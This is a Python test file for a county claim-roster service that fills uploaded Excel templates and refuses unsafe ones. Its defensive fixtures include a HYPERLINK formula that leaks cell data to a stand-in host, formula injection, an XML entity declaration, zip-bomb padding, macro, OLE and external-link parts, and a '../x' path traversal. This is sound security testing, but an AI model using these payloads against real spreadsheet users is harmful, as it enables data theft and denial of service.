"""A county's own workbook in the place of a form: filled, and every kind of bad one refused with a sentence."""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import replace
from io import BytesIO
from pathlib import Path
from typing import Any
from zipfile import ZIP_DEFLATED, ZipFile

import openpyxl
import pytest
from openpyxl.styles import Font
from openpyxl.worksheet.pagebreak import Break
from openpyxl.worksheet.properties import PageSetupProperties

from domain.errors import InputUnusable, NotFound
from services.forms import CATALOGUE, templates, workbook_template
from services.forms.form import Form

ROSTER = Form(
    "汇总名册",
    {"填报单位": "解放村", "填报时间": "2023年6月5日"},
    columns=CATALOGUE["claim_roster"].columns,
    rows=[
        (n, name, "**0118", "解放村", "交通补助", 2023, "辽宁省", "", 500.0, "草稿", "")
        for n, name in enumerate(("=1+1", "李四", "王五"), 1)
    ],
    total=("", "合计", "", "", "", "", "", "", 1500.0, "", ""),
)


def book(**cells: Any) -> openpyxl.Workbook:
    made = openpyxl.Workbook()
    for place, value in cells.items():
        sheet_of(made)[place] = value
    return made


def sheet_of(made: openpyxl.Workbook) -> Any:
    return made.active


def saved(tmp_path: Path, made: openpyxl.Workbook) -> Path:
    made.save(tmp_path / "样表.xlsx")
    return tmp_path / "样表.xlsx"


def test_a_template_is_filled_and_keeps_its_look(tmp_path: Path) -> None:
    made = book(
        A1="{{标题}}",
        A2="单位：{{填报单位}}，{{ 填报时间 }}",
        A4="{{行.序号}}",
        B4="{{行.姓名或单位}}",
        D4="{{填报单位}}{{行.序号}}",
        C4="{{行.金额（元）}}",
        A5="合计",
    )
    sheet = sheet_of(made)
    sheet["C5"] = "{{合计}}"
    sheet["B4"].font = Font(bold=True)
    sheet.merge_cells("A5:B5")
    templates.keep(tmp_path, "claim_roster", saved(tmp_path, made))
    own = templates.of(tmp_path, "claim_roster")
    assert own is not None
    assert templates.fill(ROSTER, "claim_roster", own.read_bytes(), tmp_path / "out.xlsx") == 3
    sheet = sheet_of(openpyxl.load_workbook(tmp_path / "out.xlsx"))
    assert [sheet[f"A{n}"].value for n in (1, 2)] == ["汇总名册", "单位：解放村，2023年6月5日"]
    assert [[cell.value for cell in row] for row in sheet["A4:C6"]] == [[1, "=1+1", 500], [2, "李四", 500], [3, "王五", 500]]
    assert (sheet["B4"].data_type, sheet["B4"].quotePrefix, sheet["B6"].font.bold) == ("s", True, True)
    assert [sheet[f"D{n}"].value for n in (4, 6)] == ["解放村1", "解放村3"]
    assert (sheet["A7"].value, sheet["C7"].value) == ("合计", 1500) and "A7:B7" in map(str, sheet.merged_cells.ranges)
    assert templates.drop(tmp_path, "claim_roster") and templates.of(tmp_path, "claim_roster") is None
    assert not templates.drop(tmp_path, "claim_roster")


@pytest.mark.parametrize("name", CATALOGUE)
def test_a_blank_one_is_one_that_is_taken(tmp_path: Path, name: str) -> None:
    templates.blank(name, tmp_path / "a.xlsx")
    templates.keep(tmp_path, name, tmp_path / "a.xlsx")


def test_what_is_printed_and_hidden_goes_along_with_the_rows_that_come_in(tmp_path: Path) -> None:
    """The area of print ended where the row of fields had stood, and the second person was in the place of a hidden line."""
    made = book(A1="{{标题}}", A3="{{行.姓名或单位}}", A4="合计", A5="只给自己看")
    sheet = sheet_of(made)
    sheet.print_area, sheet.print_title_rows = ["A1:H4", "A5:B5"], "2:2"
    sheet.row_dimensions[4].height, sheet.row_dimensions[5].hidden = 33, True
    sheet.row_breaks.append(Break(id=4))
    sheet.sheet_properties.pageSetUpPr = PageSetupProperties(fitToPage=True)
    templates.keep(tmp_path, "claim_roster", saved(tmp_path, made))
    templates.fill(ROSTER, "claim_roster", (tmp_path / "forms" / "claim_roster.xlsx").read_bytes(), tmp_path / "a.xlsx")
    made = openpyxl.load_workbook(tmp_path / "a.xlsx")
    sheet = sheet_of(made)
    assert (sheet.print_area, sheet.print_title_rows) == ("'Sheet'!$A$1:$H$6,'Sheet'!$A$7:$B$7", "$2:$2")
    assert [n for n, row in sheet.row_dimensions.items() if row.hidden] == [7] and sheet.row_dimensions[6].height == 33
    assert [one.id for one in sheet.row_breaks.brk] == [6] and sheet["A7"].value == "只给自己看"
    assert (sheet.page_setup.fitToWidth, sheet.page_setup.fitToHeight) == (None, 0), "as many pages as there are rows for"


def test_headings_stand_on_every_page(tmp_path: Path) -> None:
    made = book(A2="序号", A3="一", B2="姓名", A4="{{行.序号}}", B4="{{行.姓名或单位}}")
    sheet_of(made).merge_cells("B2:B3")
    templates.keep(tmp_path, "claim_roster", saved(tmp_path, made))
    for rows, titles in ((ROSTER.rows, "$2:$3"), (ROSTER.rows[:1], None)):
        file = tmp_path / "forms" / "claim_roster.xlsx"
        templates.fill(replace(ROSTER, rows=rows), "claim_roster", file.read_bytes(), tmp_path / "a.xlsx")
        assert sheet_of(openpyxl.load_workbook(tmp_path / "a.xlsx")).print_title_rows == titles


def test_fields_stand_in_heads_and_feet_of_pages_and_between_wide_braces(tmp_path: Path) -> None:
    made = book(A1="｛｛标题｝｝")
    sheet_of(made).oddHeader.left.text, sheet_of(made).oddFooter.center.text = "{{填报单位}}印", "第 &P 页"
    templates.keep(tmp_path, "claim_roster", saved(tmp_path, made))
    form = replace(ROSTER, heads={"填报单位": "甲&D乙"})
    templates.fill(form, "claim_roster", (tmp_path / "forms" / "claim_roster.xlsx").read_bytes(), tmp_path / "a.xlsx")
    with ZipFile(tmp_path / "a.xlsx") as archive:
        xml = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "&amp;L甲&amp;&amp;D乙印" in xml and "&amp;C第 &amp;P 页" in xml
    assert sheet_of(openpyxl.load_workbook(tmp_path / "a.xlsx"))["A1"].value == "汇总名册"
    sheet_of(made).oddHeader.left.text = "{{手机}}"
    with pytest.raises(InputUnusable, match=r"手机.*页眉"):
        templates.keep(tmp_path, "claim_roster", saved(tmp_path, made))


def test_a_picture_that_would_be_gone_is_told_when_the_file_is_taken(tmp_path: Path) -> None:
    data = saved(tmp_path, book(A1="{{标题}}"))
    with ZipFile(data, "a") as archive:
        archive.writestr("xl/media/image1.png", b"picture")
    with pytest.raises(InputUnusable, match="图片"):
        templates.keep(tmp_path, "claim_roster", data)
    templates.fill(ROSTER, "claim_roster", data.read_bytes(), tmp_path / "a.xlsx")  # one that was taken before goes on


def test_a_row_is_as_high_as_what_is_filled_in(tmp_path: Path) -> None:
    """The blank workbook's rows are as high as the names of its fields: an address and all but a line of the text were cut off."""
    templates.blank("claim_roster", tmp_path / "样表.xlsx")
    templates.keep(tmp_path, "claim_roster", tmp_path / "样表.xlsx")
    rows = [(n, name, *ROSTER.rows[0][2:]) for n, name in ((1, "王五"), (2, "阿依古丽" * 10))]
    form = replace(ROSTER, text=["合计几笔", "政策依据" * 60], rows=rows)
    templates.fill(form, "claim_roster", (tmp_path / "forms" / "claim_roster.xlsx").read_bytes(), tmp_path / "a.xlsx")
    sheet = sheet_of(openpyxl.load_workbook(tmp_path / "a.xlsx"))
    found = {str(cell.value).strip()[:4]: sheet.row_dimensions[cell.row].height for row in sheet.iter_rows() for cell in row if cell.value}
    assert found["王五"] == 24.75 and found["阿依古丽"] > 60 and 60 < found["合计几笔"] < 90 and found["填报单位"] < 30


def test_an_empty_form_leaves_the_row_empty(tmp_path: Path) -> None:
    file = saved(tmp_path, book(A1="{{行.序号}}", B1="{{合计}}元"))
    templates.fill(Form("x", columns=ROSTER.columns, note="完整号码"), "claim_roster", file.read_bytes(), tmp_path / "out.xlsx")
    made = openpyxl.load_workbook(tmp_path / "out.xlsx")
    sheet = sheet_of(made)
    assert made.properties.description == "完整号码"  # who took numbers in full
    assert (sheet["A1"].value or "", sheet["B1"].value) == ("", "元")


def test_unknown_fields_are_named(tmp_path: Path) -> None:
    file = saved(tmp_path, book(B3="{{手机号}}", C3="{{行.单价}}"))
    with pytest.raises(InputUnusable, match=r"\{\{手机号\}\}（B3）.*\{\{行.单价\}\}（C3）.*填报单位"):
        templates.keep(tmp_path, "claim_roster", file)
    assert templates.of(tmp_path, "claim_roster") is None
    with pytest.raises(NotFound):
        templates.keep(tmp_path, "../x", file)


def _hidden() -> openpyxl.Workbook:
    made = book(A1="{{标题}}")
    made.create_sheet("底稿").sheet_state = "hidden"
    return made


@pytest.mark.parametrize(
    ("make", "said"),
    [
        (lambda: book(A1='=HYPERLINK("http://x/?"&A2)'), "公式"),
        (lambda: book(A1="=SUM(B1:B9)"), "公式"),
        (_hidden, "隐藏"),
        (lambda: book(A1="{{行.姓名或单位}}", A2="{{行.状态}}"), "只能有一行"),
        (lambda: book(A301="x"), "太大"),
        (lambda: book(BZ1="x"), "太大"),
        (lambda: book(A1="{{标题}}" * 2000, A2="{{正文}}"), "太大"),
    ],
)
def test_what_a_workbook_must_not_hold(tmp_path: Path, make: Callable[[], openpyxl.Workbook], said: str) -> None:
    with pytest.raises(InputUnusable, match=said):
        templates.keep(tmp_path, "claim_roster", saved(tmp_path, make()))


def test_what_would_unfold_beyond_measure_is_refused(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(workbook_template, "MAX_MADE", 100_000)
    template = saved(tmp_path, book(A1="{{行.序号}}" + "{{正文}}" * 90, B1="{{正文}}" * 90)).read_bytes()
    templates.fill(replace(ROSTER, text=["段" * 250]), "claim_roster", template, tmp_path / "out.xlsx")
    with pytest.raises(InputUnusable, match="样表太大"):
        templates.fill(replace(ROSTER, text=["段" * 300]), "claim_roster", template, tmp_path / "out.xlsx")


def package(change: Callable[[dict[str, bytes]], None]) -> bytes:
    """A harmless template, changed part by part."""
    plain = BytesIO()
    book(A1="{{标题}}").save(plain)
    with ZipFile(plain) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    out = BytesIO()
    with ZipFile(out, "w", ZIP_DEFLATED) as archive:
        for name, data in parts.items():
            archive.writestr(name, data)
    return out.getvalue()


SHEET = "xl/worksheets/sheet1.xml"


def merged(ref: bytes, tag: bytes = b"mergeCell") -> Callable[[dict[str, bytes]], None]:
    block = b'<mergeCells><%s ref="%s"/></mergeCells><pageMargins' % (tag, ref)
    return lambda parts: parts.update({SHEET: parts[SHEET].replace(b"<pageMargins", block)})


def renamed(to: str, encoding: str = "utf-8") -> Callable[[dict[str, bytes]], None]:
    """The sheet, with a block as large as a sheet can be, under a name that says it is something else."""

    def change(parts: dict[str, bytes]) -> None:
        merged(b"A1:XFD1048576")(parts)
        parts[f"xl/worksheets/{to}"] = parts.pop(SHEET).decode().encode(encoding)
        for name in ("[Content_Types].xml", "xl/_rels/workbook.xml.rels"):
            parts[name] = parts[name].replace(b"sheet1.xml", to.encode())

    return change


def named_often(parts: dict[str, bytes]) -> None:
    (one,) = re.findall(rb"<sheet [^>]*/>", parts["xl/workbook.xml"])
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(one, one * 2_000)


@pytest.mark.parametrize(
    "change",
    [
        renamed("sheet1.XML"),
        renamed("sheet1.bin"),
        renamed("sheet1.png", "utf-16"),
        lambda parts: parts.update({"xl/vbaProject.bin": b"x"}),
        lambda parts: parts.update({"xl/externalLinks/externalLink1.xml": b"<a/>"}),
        lambda parts: parts.update({"xl/embeddings/oleObject1.bin": b"x"}),
        lambda parts: parts.update({"xl/connections.xml": b"<a/>"}),
        lambda parts: parts.update({SHEET: b'<!DOCTYPE a [<!ENTITY b "b">]>' + parts[SHEET]}),
        lambda parts: parts.update({SHEET: parts[SHEET].decode().encode("utf-16")}),
        lambda parts: parts.update({SHEET: b"<worksheet"}),
        lambda parts: parts.update({"xl/media/bomb.xml": b" " * 30_000_000}),
        named_often,
        merged(b"A1:XFD1048576"),
        merged(b"&#65;1:XFD1048576"),
        merged(b"A1:XFD1048576", b"x:mergeCell"),
    ],
)
def test_a_hostile_package_is_refused_before_it_is_opened(tmp_path: Path, change: Callable[[dict[str, bytes]], None]) -> None:
    file = tmp_path / "样表.xlsx"
    file.write_bytes(package(change))
    with pytest.raises(InputUnusable):
        templates.keep(tmp_path, "claim_roster", file)
    assert templates.of(tmp_path, "claim_roster") is None


def test_the_same_package_unchanged_is_taken(tmp_path: Path) -> None:
    file = tmp_path / "样表.xlsx"
    file.write_bytes(package(lambda parts: None))
    templates.keep(tmp_path, "claim_roster", file)


@pytest.mark.parametrize(
    "data", [b"", b"name,sum\n", b"PK\x03\x04 nothing", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" * 100, b"PK" + b"x" * 2**21]
)
def test_what_is_no_workbook(tmp_path: Path, data: bytes) -> None:
    file = tmp_path / "样表.xlsx"
    file.write_bytes(data)
    with pytest.raises(InputUnusable):
        templates.keep(tmp_path, "claim_roster", file)
